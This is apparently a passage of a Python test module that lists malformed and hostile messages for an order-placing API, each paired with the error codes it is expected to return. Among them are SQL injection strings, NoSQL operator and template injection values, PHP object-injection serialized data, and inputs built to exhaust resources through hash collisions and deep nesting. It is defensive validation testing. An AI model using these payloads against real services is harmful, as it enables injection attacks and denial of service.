"""Messages of attackers and of broken clients: a table of cases, and a publisher that lets them be sent.

The table is long because each line is one idea. A case says what it sends and which codes may come back for it; no
code means that the message is harmless, and its order is placed.
"""

import asyncio
import base64
import gzip
import json
import pickle
import struct
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import unquote, urlencode, urlsplit

import pamqp.frame
import phpserialize
from pamqp import commands
from pamqp.base import Frame

from schemas.add_order import AddOrderRequest
from schemas.wire import FORM, JSON, PHP

REQUEST_BYTES_MAX = 2**20  # ORDERS_REQUEST_BYTES_MAX as it comes
MERSENNE = 2**61 - 1  # Python hashes a whole number by its remainder: multiples of this one collide

# Stands where secrets stand, and where anything stands that nobody has asked to see again.
HUSH = "hush-9f3bc1"

CREDENTIALS = {"identifier": "IDENT", "secret": "SECRET"}
ORDER = {"clientid": 1, "pid": 7, "paymentmethod": "paypal"}


@dataclass(frozen=True, kw_only=True)
class Case:
    """One message. Properties and headers are as they stand on the wire; an empty property is not sent."""

    id: str
    body: bytes | Callable[[], bytes]
    codes: tuple[str, ...]  # none: it is placed
    content_type: str | None = JSON
    properties: Mapping[str, bytes] = field(default_factory=dict)
    headers: bytes = b""
    routing_key: str = "order.add"
    by_storefront: bool = False  # published by the trusted user, with nothing but body and content type
    may_be_refused: bool = False  # by the broker, which differs between its versions
    is_garbled: bool = False  # its properties cannot all be read, that of where to answer among them

    @property
    def content(self) -> bytes:
        return self.body if isinstance(self.body, bytes) else self.body()


# ---------------------------------------------------------------- bodies


def as_json(**parameters: Any) -> bytes:
    """An order with credentials in JSON; what is given replaces and adds."""
    return json.dumps({**CREDENTIALS, **ORDER, **parameters}).encode()


def raw_json(text: str) -> bytes:
    """An order with credentials in JSON, and then `text` as it is."""
    return as_json()[:-1] + b", " + text.encode() + b"}"


def as_form(text: str | bytes = b"", **parameters: Any) -> bytes:
    """An order with credentials in form fields, and then `text` as it is."""
    written = text.encode() if isinstance(text, str) else text
    return urlencode({**CREDENTIALS, **ORDER, **parameters}).encode() + b"&" + written


def bare_form(text: str | bytes) -> bytes:
    """Form fields with credentials, client and payment method, and then `text`: no product yet."""
    written = text.encode() if isinstance(text, str) else text
    return b"identifier=IDENT&secret=SECRET&clientid=1&paymentmethod=paypal&" + written


def as_php(**parameters: Any) -> bytes:
    return bytes(phpserialize.dumps({**CREDENTIALS, **ORDER, **parameters}))


def raw_php(entries: bytes, count: int = 1) -> bytes:
    """An order with credentials, serialized by PHP, and then `entries` as they are."""
    members: bytes = phpserialize.dumps({**CREDENTIALS, **ORDER}).partition(b"{")[2][:-1]
    return b"a:%d:{" % (5 + count) + members + entries + b"}"


def packed(blob: bytes | str) -> str:
    raw = blob.encode() if isinstance(blob, str) else blob
    return base64.b64encode(raw).decode()


def fields(blob: bytes | str) -> bytes:
    """An order whose customfields are this, in base64."""
    return as_json(customfields=packed(blob))


def registering(domain: str) -> bytes:
    return as_json(pid=None, domain=domain, domaintype="register", regperiod=1)


def padded(body: bytes, size: int) -> bytes:
    return body + b" " * (size - len(body))


def nesting(opening: str, closing: str, levels: int) -> bytes:
    return raw_json('"notes": ' + opening * levels + "1" + closing * levels)


# ---------------------------------------------------------------- properties and headers as they stand on the wire


def short(text: str | bytes) -> bytes:
    """A short string: what most properties are."""
    raw = text.encode() if isinstance(text, str) else text
    return bytes([len(raw)]) + raw


def text(value: str | bytes) -> bytes:
    """A header that is text, or bytes that claim to be."""
    raw = value.encode() if isinstance(value, str) else value
    return b"S" + struct.pack(">I", len(raw)) + raw


def number(value: int) -> bytes:
    return b"l" + struct.pack(">q", value)


def double(value: float) -> bytes:
    return b"d" + struct.pack(">d", value)


def moment(seconds: int) -> bytes:
    return struct.pack(">Q", seconds)


def array(*members: bytes) -> bytes:
    joined = b"".join(members)
    return b"A" + struct.pack(">I", len(joined)) + joined


def table(named: Mapping[str, bytes] | Mapping[bytes, bytes]) -> bytes:
    """The headers, or with an F in front a header that is a table itself."""
    joined = b"".join(short(name) + value for name, value in named.items())
    return struct.pack(">I", len(joined)) + joined


def tables(levels: int) -> bytes:
    """A table in a table in a table, with nothing inside."""
    value = b"V"
    for _ in range(levels):
        value = b"F" + table({"a": value})
    return value


def arrays(levels: int) -> bytes:
    value = b"V"
    for _ in range(levels):
        value = array(value)
    return value


# ---------------------------------------------------------------- the cases

MALFORMED = ("malformed",)
UNKNOWN_CALLER = ("authentication_failed",)
PLACED = ()
SERIALIZED = ("serialized_invalid",)
TOO_MANY = ("too_many_items",)
NO_DOMAIN = ("domain_invalid",)
NO_NUMBER = ("number_invalid",)

Line = tuple[str, bytes | Callable[[], bytes], Sequence[str]]


def cases(content_type: str | None, group: str, *lines: Line) -> Iterator[Case]:
    for name, body, codes in lines:
        yield Case(id=f"{group}: {name}", body=body, codes=tuple(codes), content_type=content_type)


JSON_TEXT = cases(
    JSON,
    "json text",
    ("latin-1", as_json(notes="caf\u00e9").replace(b"\\u00e9", b"\xe9"), MALFORMED),
    ("a character cut short", as_json(notes="@").replace(b"@", b"\xe2\x82"), MALFORMED),
    ("an overlong slash", as_json(notes="@").replace(b"@", b"\xc0\xaf"), MALFORMED),
    ("a surrogate in UTF-8's clothes", as_json(notes="@").replace(b"@", b"\xed\xa0\x80"), MALFORMED),
    ("beyond Unicode", as_json(notes="@").replace(b"@", b"\xf4\x90\x80\x80"), MALFORMED),
    ("a raw NUL in a text", as_json(notes="@").replace(b"@", b"\0"), MALFORMED),
    ("a raw NUL behind it all", as_json() + b"\0", MALFORMED),
    ("an escaped NUL", as_json(notes="\0"), MALFORMED),
    ("an escaped NUL in a name", as_json(**{"no\0tes": "x"}), MALFORMED),
    ("an escaped NUL in a map", as_json(customfields={"1": "\0"}), MALFORMED),
    ("an escaped NUL in a list", as_json(domain=["\0"]), MALFORMED),
    ("a raw line break in a text", as_json(notes="@").replace(b"@", b"\n"), MALFORMED),
    ("half a surrogate pair", as_json(notes="\ud800"), MALFORMED),
    ("the other half", as_json(notes="\udfff"), MALFORMED),
    ("a pair the wrong way round", as_json(notes="\ude00\ud83d"), MALFORMED),
    ("half a pair in a name", as_json(**{"\ud800": "x"}), MALFORMED),
    ("half a pair in a secret", as_json(secret="\ud800"), MALFORMED),
    ("a whole pair", as_json(notes="\U0001f600"), PLACED),
    ("no characters at all", as_json(notes="\ufffe\uffff\U0010ffff"), PLACED),
    ("a byte order mark", b"\xef\xbb\xbf" + as_json(), MALFORMED),
    ("UTF-16", as_json().decode().encode("utf-16"), MALFORMED),
    ("UTF-16 without its mark", as_json().decode().encode("utf-16-le"), MALFORMED),
    ("UTF-16 the other way", as_json().decode().encode("utf-16-be"), MALFORMED),
    ("UTF-32", as_json().decode().encode("utf-32"), MALFORMED),
    ("UTF-7", as_json().decode().replace("{", "+AHs-").encode(), MALFORMED),
    ("EBCDIC", as_json().decode().encode("cp500"), MALFORMED),
)

JSON_SYNTAX = cases(
    JSON,
    "json syntax",
    ("an empty body", b"", UNKNOWN_CALLER),
    ("one brace", b"{", MALFORMED),
    ("spaces", b" \t\r\n", UNKNOWN_CALLER),
    ("one NUL", b"\0", MALFORMED),
    ("an empty object", b"{}", UNKNOWN_CALLER),
    ("a list", b"[1]", MALFORMED),
    ("a list of orders", b"[" + as_json() + b"]", MALFORMED),
    ("a text", b'"addorder"', MALFORMED),
    ("a number", b"7", MALFORMED),
    ("null", b"null", MALFORMED),
    ("true", b"true", MALFORMED),
    ("two objects", as_json() + as_json(), MALFORMED),
    ("cut short", as_json()[:-3], MALFORMED),
    ("a comma too many", as_json()[:-1] + b",}", MALFORMED),
    ("a comment", b"/* hello */" + as_json(), MALFORMED),
    ("single quotes", b"{'clientid': 1}", MALFORMED),
    ("names without quotes", b"{clientid: 1}", MALFORMED),
    ("JavaScript's undefined", raw_json('"notes": undefined'), MALFORMED),
    ("a hexadecimal number", raw_json('"affid": 0x7'), MALFORMED),
    ("a number with a plus", raw_json('"affid": +7'), MALFORMED),
    ("a number with a leading zero", raw_json('"affid": 07'), MALFORMED),
    ("a point without digits", raw_json('"affid": 7.'), MALFORMED),
    ("an escape that is none", raw_json('"notes": "\\x41"'), MALFORMED),
    ("NaN", raw_json('"priceoverride": NaN'), MALFORMED),
    ("Infinity", raw_json('"priceoverride": Infinity'), MALFORMED),
    ("minus Infinity", raw_json('"priceoverride": -Infinity'), MALFORMED),
    ("objects 100,000 deep", lambda: b'{"a":' * 100_000 + b"1" + b"}" * 100_000, TOO_MANY),
    ("lists 500,000 deep", lambda: raw_json('"notes": ' + "[" * 500_000), MALFORMED),
    ("lists 900 deep", nesting("[", "]", 900), MALFORMED),
    ("objects 900 deep", nesting('{"a":', "}", 900), MALFORMED),
    ("lists 7 deep", nesting("[", "]", 7), MALFORMED),
    ("objects 7 deep, in an unknown name", raw_json('"x": ' + '{"a":' * 7 + "1" + "}" * 7), MALFORMED),
    ("a form", as_form(), MALFORMED),
    ("PHP", as_php(), MALFORMED),
    ("XML", b'<?xml version="1.0"?><clientid>1</clientid>', MALFORMED),
    ("a pickle", pickle.dumps(ORDER), MALFORMED),
    ("gzip that says nothing of it", gzip.compress(as_json(), mtime=0), MALFORMED),
    ("MessagePack", b"\x81\xa8clientid\x01", MALFORMED),
    ("an HTTP request", b"POST /includes/api.php HTTP/1.1\r\n\r\n" + as_json(), MALFORMED),
)

JSON_VALUES = cases(
    JSON,
    "json value",
    ("a client that is a list", as_json(clientid=[1]), ("value_expected",)),
    ("a client that is an object", as_json(clientid={"$gt": 0}), ("value_expected",)),
    ("a client that is true", as_json(clientid=True), NO_NUMBER),
    ("a client that is null", as_json(clientid=None), ("parameter_missing",)),
    ("client nobody", as_json(clientid=0), ("client_not_found",)),
    ("client minus one", as_json(clientid=-1), NO_NUMBER),
    ("a client of 5,000 digits", raw_json('"affid": ' + "9" * 5_000), NO_NUMBER),
    ("a client of a million digits", lambda: raw_json('"affid": ' + "9" * 1_000_000), NO_NUMBER),
    ("a client in Arabic digits", as_json(clientid="\u0661"), NO_NUMBER),
    ("a client in full-width digits", as_json(clientid="\uff11"), NO_NUMBER),
    ("a client with underscores", as_json(clientid="1_0"), NO_NUMBER),
    ("a client beyond 32 bits", as_json(clientid=2**31), ("client_not_found",)),
    ("a client beyond 64 bits", as_json(clientid=2**64), NO_NUMBER),
    ("a client with an exponent", raw_json('"affid": 1e9'), NO_NUMBER),
    ("a client with an exponent of a million", raw_json('"affid": 1e1000000'), NO_NUMBER),
    ("a client with a great exponent of nothing", raw_json('"affid": 0e999999999999'), NO_NUMBER),
    ("a price with an exponent of a million", raw_json('"priceoverride": 1e1000000'), ("amount_invalid",)),
    ("the same in quotes", as_json(priceoverride="1e1000000"), ("amount_invalid",)),
    ("a price with an exponent of minus a million", as_json(priceoverride="1e-1000000"), ("amount_invalid",)),
    ("a price of 5,000 digits", as_json(priceoverride="9" * 5_000), ("amount_invalid",)),
    ("a price with 5,000 decimals", as_json(priceoverride="1." + "0" * 5_000), ("amount_invalid",)),
    ("a price that is NaN in quotes", as_json(priceoverride="NaN"), ("amount_invalid",)),
    ("a price that is sNaN in quotes", as_json(priceoverride="sNaN123"), ("amount_invalid",)),
    ("a price that is infinite in quotes", as_json(priceoverride="-Infinity"), ("amount_invalid",)),
    ("a price below nothing", as_json(priceoverride="-0.01"), ("amount_invalid",)),
    ("a price of minus nothing", raw_json('"priceoverride": -0.0'), ("amount_invalid",)),
    ("a price of half a cent", as_json(priceoverride="0.005"), ("amount_invalid",)),
    ("a price with a thousand separator", as_json(priceoverride="1,000.00"), ("array_expected", "amount_invalid")),
    ("a price beyond 10^13", as_json(priceoverride="10000000000000"), ("amount_invalid",)),
    (
        "a total beyond its column",
        as_json(pid=8, qty=1_000_000, priceoverride="9999999999999.99"),
        ("total_too_large",),
    ),
    ("a boolean that is a word", as_json(noinvoice="maybe"), ("boolean_invalid",)),
    ("a boolean that is a list", as_json(noinvoice=[True]), ("value_expected",)),
    ("a boolean of 100,000 letters", as_json(noemail="t" * 100_000), ("boolean_invalid",)),
    ("an encoding of the reply that is none", as_json(responsetype="yaml"), ("responsetype_invalid",)),
    ("an encoding of the reply that is a list", as_json(responsetype=["xml"]), ("value_expected",)),
    ("an address that is none", as_json(clientip="127.0.0.1; DROP TABLE orders"), ("ip_invalid",)),
    ("an address of 10,000 digits", as_json(clientip="1" * 10_000), ("ip_invalid",)),
    ("an address with a zone", as_json(clientip="fe80::1%eth0"), ("ip_invalid",)),
    ("a contact that is nobody's", as_json(contactid=2**31 - 1), ("contact_not_found",)),
    ("a payment method that is an object", as_json(paymentmethod={"a": "b"}), ("value_expected",)),
    ("a payment method of 10,000 letters", as_json(paymentmethod="p" * 10_000), ("invalid_payment_method",)),
    ("a payment method with SQL", as_json(paymentmethod="paypal' OR '1'='1"), ("invalid_payment_method",)),
    ("a client given twice", raw_json('"clientid": 1'), ("parameter_repeated",)),
    ("a client given twice in two spellings", raw_json('"ClientID": 1'), ("parameter_repeated",)),
    ("a name server under both its names", as_json(ns1="a.net", nameserver1="b.net"), ("parameter_repeated",)),
    ("notes of 65,536 letters", as_json(notes="n" * 65_536), ("text_too_long",)),
    ("notes of a megabyte", lambda: as_json(notes="n" * 1_000_000), ("text_too_long",)),
    ("notes of 10,000 emoji", as_json(notes="\U0001f4a9" * 10_000), PLACED),
    ("a cycle of 100,000 letters", as_json(billingcycle="m" * 100_000), ("cycle_invalid",)),
    ("60,000 unknown names", lambda: as_json(**{f"x{number}": 1 for number in range(60_000)}), TOO_MANY),
    ("19,000 unknown names", lambda: as_json(**{f"x{number}": 1 for number in range(19_000)}), PLACED),
    ("an unknown name of half a megabyte", lambda: as_json(**{"x" * 500_000: 1}), PLACED),
    ("names of Python's insides", as_json(__class__="x", __proto__={"admin": "1"}, model_config="x"), PLACED),
)

JSON_ITEMS = cases(
    JSON,
    "json items",
    ("half a million products", lambda: as_json(pid=[0]).replace(b"[0]", b"[" + b"0," * 500_000 + b"0]"), TOO_MANY),
    ("300,000 empty lists", lambda: as_json(pid=[0]).replace(b"[0]", b"[" + b"[]," * 300_000 + b"0]"), TOO_MANY),
    ("100,000 times no product", lambda: as_json(pid=[None] * 100_000), TOO_MANY),
    ("19,000 times no product", lambda: as_json(pid=[None] * 19_000), ("empty_order",)),
    ("60,000 keys of products", lambda: as_json(pid={str(number): 7 for number in range(60_000)}), TOO_MANY),
    ("1,001 products", as_json(pid=[7] * 1_001), TOO_MANY),
    ("keys that collide as numbers", as_json(pid={str(k * MERSENNE): 7 for k in range(900)}), ("item_key_invalid",)),
    ("19,000 names that collide as numbers", lambda: as_json(**{str(k * MERSENNE): 1 for k in range(19_000)}), PLACED),
    ("a million rows by quantity", as_json(qty=1_000_000), TOO_MANY),
    ("10^12 rows", as_json(pid=[7] * 1_000, qty=[1_000_000] * 1_000, addons=["1,3,5"] * 1_000), TOO_MANY),
    ("a quantity of 10^12", as_json(qty=10**12), (*NO_NUMBER, "quantity_not_allowed")),
    ("a quantity of nothing", as_json(qty=0), ("quantity_not_allowed",)),
    ("a quantity below nothing", as_json(qty=-5), (*NO_NUMBER, "quantity_not_allowed")),
    ("a quantity of half", as_json(qty="0.5"), NO_NUMBER),
    ("more of a limited product than there is", as_json(pid=27, qty=1_000), ("out_of_stock",)),
    ("100,000 addons", as_json(addons="1," * 100_000), ("too_many_items",)),
    ("100,000 commas for addons", as_json(addons="," * 100_000), ("too_many_items",)),
    ("addons that are a list", as_json(addons=[["1", "3"]]), ("value_expected",)),
    ("an addon of 5,000 digits", as_json(addons="9" * 5_000), NO_NUMBER),
    ("more quantities than addons", as_json(addons="1", addonsqty="1,1,1"), ("quantity_not_allowed",)),
    ("a quantity of addons of 10^10", as_json(addons="1", addonsqty="10000000000"), ("quantity_not_allowed",)),
    (
        "one item under two spellings of its key",
        as_json(pid={"0": 7, "00": 1}),
        ("parameter_repeated", "item_key_invalid"),
    ),
    ("a product key below nothing", as_json(pid={"-1": 7}), ("item_key_invalid",)),
    ("a product key that is text", as_json(pid={"first": 7}), ("item_key_invalid",)),
    ("a product key of nothing", as_json(pid={"": 7}), ("item_key_invalid",)),
    ("a product key of 5,000 digits", as_json(pid={"9" * 5_000: 7}), ("item_key_invalid",)),
    ("a product key of 100,000 letters", as_json(pid={"k" * 100_000: 7}), ("item_key_invalid",)),
    ("a product key in Arabic digits", as_json(pid={"\u0660": 7}), ("item_key_invalid",)),
    ("a large product key", as_json(pid={"999999999": 7}), PLACED),
    ("a product that is a list", as_json(pid=[[7]]), ("value_expected",)),
    ("a product that is an object", as_json(pid=[{"id": 7}]), ("value_expected",)),
    ("a product with SQL", as_json(pid="7 OR 1=1"), NO_NUMBER),
    ("a list of products in a text", as_json(pid="7,7"), ("array_expected",)),
    ("nothing but a cycle", as_json(pid=None, billingcycle=["monthly"]), ("item_empty",)),
    ("half an addon line", as_json(addonids=[1], serviceids={"5": 19}), ("parameter_missing",)),
    ("1,001 services to renew", as_json(servicerenewals=[20] * 1_001), TOO_MANY),
    ("one service to renew twice", as_json(pid=None, servicerenewals=[999_999, 999_999]), ("service_not_owned",)),
    ("a million years", as_json(pid=None, domain="a.com", domaintype="register", regperiod=10**6), NO_NUMBER),
    ("a hundred years", as_json(domain="a.com", domaintype="register", regperiod=100), ("period_not_offered",)),
    ("1,001 domains to renew", as_json(domainrenewals={f"a{n}.com": 1 for n in range(1_001)}), TOO_MANY),
    (
        "1,000 domains that are nobody's",
        as_json(domainrenewals={f"a{n}.com": 1 for n in range(999)}),
        ("domain_not_owned",),
    ),
    ("domains to renew in a list", as_json(domainrenewals=["domain1.com"]), NO_NUMBER),
    ("domains to renew in a text", as_json(domainrenewals="domain1.com"), ("array_expected",)),
    ("years that are a list", as_json(domainrenewals={"domain1.com": [1]}), NO_NUMBER),
    ("years beyond all numbers", as_json(domainrenewals={"domain1.com": 10**30}), NO_NUMBER),
    ("no years", as_json(domainrenewals={"domain1.com": 0}), ("period_not_offered",)),
    (
        "one domain to renew in two spellings",
        as_json(domainrenewals={"domain1.com": 1, "DOMAIN1.com": 1}),
        ("domain_repeated",),
    ),
    (
        "a domain to renew of 10,000 letters",
        as_json(domainrenewals={"d" * 10_000 + ".com": 1}),
        ("domain_not_owned", "domain_invalid"),
    ),
    (
        "years of 200 domains of 3,000 letters that are no number",
        as_json(domainrenewals={f"{n}" + "d" * 3_000: HUSH for n in range(200)}),
        NO_NUMBER,
    ),
)

DOMAINS = cases(
    JSON,
    "domain",
    ("10,000 letters", registering("d" * 10_000 + ".com"), ("text_too_long", "domain_invalid")),
    ("254 letters", registering("d." * 126 + "com"), NO_DOMAIN),
    ("126 labels", registering("a." * 124 + "com"), ("domain_invalid", "placed")),
    ("a label of 64 letters", registering("d" * 64 + ".com"), NO_DOMAIN),
    ("an empty label", registering("a..com"), NO_DOMAIN),
    ("one label", registering("localhost"), NO_DOMAIN),
    ("only an ending", registering(".com"), NO_DOMAIN),
    ("a root", registering("."), NO_DOMAIN),
    ("a point at the end", registering("a.com."), NO_DOMAIN),
    ("a hyphen first", registering("-a.com"), NO_DOMAIN),
    ("an underscore", registering("a_b.com"), NO_DOMAIN),
    ("a star", registering("*.com"), NO_DOMAIN),
    ("a space", registering("a b.com"), NO_DOMAIN),
    ("a line break", registering("a.com\nb.com"), NO_DOMAIN),
    ("a line break at the end", registering("a.com\n"), PLACED),
    ("an address of the web", registering("https://a.com/"), NO_DOMAIN),
    ("SQL", registering("a'; DROP TABLE domains; --.com"), NO_DOMAIN),
    ("an address of the net", registering("192.0.2.7"), ("unknown_tld", "domain_invalid")),
    ("an ending that is not sold", registering("a.example"), ("unknown_tld",)),
    ("Punycode of nothing", registering("xn--.com"), NO_DOMAIN),
    ("Punycode that is none", registering("xn--\u00e4\u00f6.com"), NO_DOMAIN),
    ("Punycode that overflows", registering("xn--99999999999999999999.com"), NO_DOMAIN),
    ("Punycode of 59 letters", registering("xn--" + "a" * 59 + ".com"), NO_DOMAIN),
    ("Punycode in Punycode", registering("xn--xn--a-9na.com"), NO_DOMAIN),
    ("Punycode of plain letters", registering("xn--abc-.com"), NO_DOMAIN),
    ("an emoji", registering("\U0001f4a9.com"), NO_DOMAIN),
    ("an emoji in Punycode", registering("xn--ls8h.com"), NO_DOMAIN),
    ("a letter from right to left among others", registering("a\u05d0b.com"), NO_DOMAIN),
    ("letters from right to left", registering("\u05d0\u05d1\u05d2.com"), PLACED),
    ("an order to turn the text around", registering("\u202emoc.a.com"), NO_DOMAIN),
    ("a joiner of no width", registering("a\u200db.com"), NO_DOMAIN),
    ("a space of no width", registering("a\u200bb.com"), ("domain_invalid", "placed")),
    ("250 combining marks", registering("a" + "\u0301" * 200 + ".com"), NO_DOMAIN),
    ("a full-width point", registering("wide\u3002com"), PLACED),
    ("ligatures that grow", registering("\ufdfa" * 60 + ".com"), NO_DOMAIN),
    ("a list", as_json(pid=None, domain=[["a.com"]], domaintype=["register"]), ("value_expected",)),
    ("the same twice", as_json(pid=None, domain=["a.com", "A.com"], domaintype=["register"] * 2), ("domain_repeated",)),
    ("a host name of a template", as_json(hostname="{{7*7}}"), PLACED),
)

SERIALIZED_VALUES = cases(
    JSON,
    "serialized",
    ("the PHP source", as_json(customfields="base64_encode(serialize(array(1)))"), SERIALIZED),
    ("a number", as_json(customfields=5), SERIALIZED),
    ("base64 for addresses of the web", as_json(customfields="YToxOntpOjE7czo2OiJH_-8"), SERIALIZED),
    ("base64 with line breaks", as_json(customfields="YTox\nOntpOjE7czo2OiJHb29nbGUiO30="), PLACED),
    ("one letter", as_json(customfields="Y"), SERIALIZED),
    ("only padding", as_json(customfields="===="), SERIALIZED),
    ("100,000 times padding", as_json(customfields="=" * 100_000), SERIALIZED),
    ("base64 of base64", fields(packed('a:1:{i:1;s:6:"Google";}')), SERIALIZED),
    ("base64 of gzip", fields(gzip.compress(b'a:1:{i:1;s:6:"Google";}', mtime=0)), SERIALIZED),
    ("base64 of a pickle", fields(pickle.dumps({1: "x"})), SERIALIZED),
    ("more than 64 KiB", lambda: fields('a:1:{i:1;s:70000:"' + "x" * 70_000 + '";}'), SERIALIZED),
    ("cut short", fields('a:1:{i:1;s:6:"Goog'), SERIALIZED),
    ("something behind it", fields('a:1:{i:1;s:6:"Google";}i:1;'), SERIALIZED),
    ("a scalar", fields('s:6:"Google";'), SERIALIZED),
    ("an object", fields(f'O:8:"stdClass":1:{{s:1:"a";s:11:"{HUSH}";}}'), SERIALIZED),
    ("an object inside", fields('a:1:{i:1;O:4:"Evil":0:{}}'), SERIALIZED),
    ("an object with a plus", fields('O:+8:"stdClass":0:{}'), SERIALIZED),
    ("an object of its own format", fields('C:4:"Evil":3:{abc}'), SERIALIZED),
    ("an enumeration", fields('E:7:"Foo:Bar";'), SERIALIZED),
    ("a reference", fields("a:2:{i:0;i:1;i:1;R:2;}"), SERIALIZED),
    ("a reference to an object", fields("a:2:{i:0;i:1;i:1;r:1;}"), SERIALIZED),
    ("an escaped text", fields('a:1:{i:1;S:1:"\\41";}'), SERIALIZED),
    ("a length below nothing", fields('a:1:{i:1;s:-1:"Google";}'), SERIALIZED),
    ("a length of 10^30", fields(f'a:1:{{i:1;s:{10**30}:"Google";}}'), SERIALIZED),
    ("a length that is too short", fields('a:1:{i:1;s:2:"Google";}'), SERIALIZED),
    ("a length that is too long", fields('a:1:{i:1;s:7:"Google";}'), SERIALIZED),
    ("a count below nothing", fields("a:-1:{}"), SERIALIZED),
    ("a count of 10^30", fields(f"a:{10**30}:{{}}"), SERIALIZED),
    ("a count of a billion", fields("a:1000000000:{}"), SERIALIZED),
    ("a count that is too small", fields('a:1:{i:1;s:1:"a";i:2;s:1:"b";}'), SERIALIZED),
    ("a count that is too large", fields('a:3:{i:1;s:1:"a";}'), SERIALIZED),
    ("a number of 10^30", fields(f"a:1:{{i:1;i:{10**30};}}"), SERIALIZED),
    ("NaN", fields("a:1:{i:1;d:NAN;}"), SERIALIZED),
    ("Infinity", fields("a:1:{i:1;d:-INF;}"), SERIALIZED),
    ("a float with an exponent of a million", fields("a:1:{i:1;d:1.0E+1000000;}"), SERIALIZED),
    ("a boolean of 2", fields("a:1:{i:1;b:2;}"), SERIALIZED),
    ("a float that becomes infinite", fields("a:1:{i:1;d:1E999;}"), SERIALIZED),
    ("an array for a key", fields("a:1:{a:0:{}i:1;}"), SERIALIZED),
    ("nothing for a key", fields("a:1:{N;i:1;}"), SERIALIZED),
    ("no key", fields("a:1:{i:1;}"), SERIALIZED),
    ("6 levels", fields("a:1:{i:0;" * 6 + "i:1;" + "}" * 6), SERIALIZED),
    ("3,000 levels", fields("a:1:{i:0;" * 3_000), SERIALIZED),
    ("a NUL", fields('a:1:{i:1;s:1:"\0";}'), SERIALIZED),
    ("a text that is no UTF-8", fields(b'a:1:{i:1;s:1:"\xff";}'), SERIALIZED),
    ("1,001 entries", fields(phpserialize.dumps(dict.fromkeys(range(1_001), "x"))), SERIALIZED),
    ("keys that collide", fields(phpserialize.dumps({k * MERSENNE: "x" for k in range(1, 5)})), PLACED),
    (
        "keys that collide, beyond 64 bits",
        fields(phpserialize.dumps({k * MERSENNE: "x" for k in range(900)})),
        SERIALIZED,
    ),
    ("1,001 entries of JSON", fields(json.dumps(dict.fromkeys(range(1_001), "x"))), SERIALIZED),
    ("JSON 3,000 deep", fields('{"a":' * 3_000), SERIALIZED),
    ("JSON with NaN", fields('{"1": NaN}'), SERIALIZED),
    ("JSON with a NUL", fields('{"1": "\\u0000"}'), SERIALIZED),
    ("JSON with half a pair", fields('{"1": "\\ud800"}'), SERIALIZED),
    ("a JSON list", fields('["Google"]'), SERIALIZED),
    ("JSON in UTF-16", fields('{"1": "x"}'.encode("utf-16")), SERIALIZED),
    ("a value that is a map", as_json(customfields={"1": {"a": "b"}}), SERIALIZED),
    ("900 fields that the product does not have", as_json(customfields={f"no-{n}": HUSH for n in range(900)}), PLACED),
    ("1,001 fields in a plain map", as_json(customfields=dict.fromkeys(map(str, range(1_001)), "x")), SERIALIZED),
    ("a field of 100,000 letters", as_json(pid=1, customfields={"1": "x" * 100_000}), (*SERIALIZED, "text_too_long")),
    ("options that are a text", as_json(pid=1, configoptions="1=999"), SERIALIZED),
    ("an option that is a list", as_json(pid=1, configoptions={"1": [1, 2]}), SERIALIZED),
    ("an option in a map in a map", as_json(pid=1, configoptions={"1": {"optionid": {"a": 1}, "qty": 1}}), SERIALIZED),
    ("an option with a quantity alone", as_json(pid=1, configoptions={"1": {"qty": 3}}), SERIALIZED),
    (
        "an option with a quantity below nothing",
        as_json(pid=1, configoptions={"1": {"optionid": 1, "qty": -1}}),
        NO_NUMBER,
    ),
    (
        "an option with a quantity of 10^30",
        as_json(pid=1, configoptions={"1": {"optionid": 1, "qty": 10**30}}),
        NO_NUMBER,
    ),
    (
        "an option that the product does not have",
        as_json(pid=1, configoptions={"x" * 9_000: "1"}),
        ("config_option_invalid",),
    ),
    (
        "900 options that the product does not have",
        as_json(pid=1, configoptions={str(n): "1" for n in range(1_000, 1_900)}),
        ("config_option_invalid",),
    ),
    ("a choice with SQL", as_json(pid=1, configoptions={"1": "1 OR 1=1"}), ("config_option_invalid",)),
    (
        "fields of a domain that are a list of lists",
        as_json(domain="a.co.uk", domaintype="register", domainfields=[[["x"]]]),
        SERIALIZED,
    ),
)

FORMS = cases(
    FORM,
    "form",
    ("raw latin-1", as_form(b"notes=caf\xe9"), MALFORMED),
    ("latin-1 in percent", as_form("notes=caf%E9"), MALFORMED),
    ("latin-1 in percent in a name", as_form("not%E9s=x"), MALFORMED),
    ("an overlong NUL in percent", as_form("notes=%C0%80"), MALFORMED),
    ("a surrogate in percent", as_form("notes=%ED%A0%80"), MALFORMED),
    ("a raw NUL", as_form(b"notes=a\0b"), MALFORMED),
    ("a NUL in percent", as_form("notes=a%00b"), MALFORMED),
    ("a NUL in percent in a name", as_form("notes%00=x"), MALFORMED),
    ("a NUL in percent in a key", as_form("domain[%00]=x"), MALFORMED),
    ("a byte order mark", b"\xef\xbb\xbf" + as_form(), MALFORMED),
    ("UTF-16", as_form().decode().encode("utf-16"), MALFORMED),
    ("UTF-16 without its mark", as_form().decode().encode("utf-16-le"), MALFORMED),
    ("UTF-32", as_form().decode().encode("utf-32"), MALFORMED),
    ("JSON", as_json(), UNKNOWN_CALLER),
    ("an empty body", b"", UNKNOWN_CALLER),
    ("only separators", b"&&&&====&&&&", UNKNOWN_CALLER),
    ("a megabyte of separators", lambda: as_form(b"&" * 1_000_000), TOO_MANY),
    ("a megabyte of percent signs", lambda: as_form(b"x=" + b"%" * 900_000), PLACED),
    ("a megabyte of brackets", lambda: as_form(b"x" + b"[" * 900_000), PLACED),
    ("a megabyte of closing brackets", lambda: as_form(b"x[]" + b"]" * 900_000 + b"=1"), PLACED),
    ("a percent sign alone", as_form("notes=100%"), PLACED),
    ("percent signs that are none", as_form("notes=%zz%u0041%"), PLACED),
    ("semicolons", bare_form("pid=7;qty=3"), NO_NUMBER),
    ("brackets 7 deep", as_form("x[a][b][c][d][e][f][g]=1"), MALFORMED),
    ("brackets 100,000 deep", lambda: as_form("x" + "[a]" * 100_000 + "=1"), MALFORMED),
    ("a long name with deep brackets", lambda: as_form("x" * 500_000 + "[a][b][c][d][e][f][g]=1"), MALFORMED),
    ("no name", as_form("=1&[]=2&[0]=3&[a][b]=4&%5B%5D=5"), PLACED),
    ("a bracket that never closes", as_form("domain[0=a.com"), PLACED),
    ("a bracket that never opens", as_form("domain0]=a.com"), PLACED),
    ("100,000 products", lambda: bare_form("pid[]=7&" * 100_000), TOO_MANY),
    ("1,001 times the same name", bare_form("pid=7&" * 1_001), TOO_MANY),
    ("a client given 1,001 times", bare_form("pid=7&" + "clientid=1&" * 1_001), ("parameter_repeated",)),
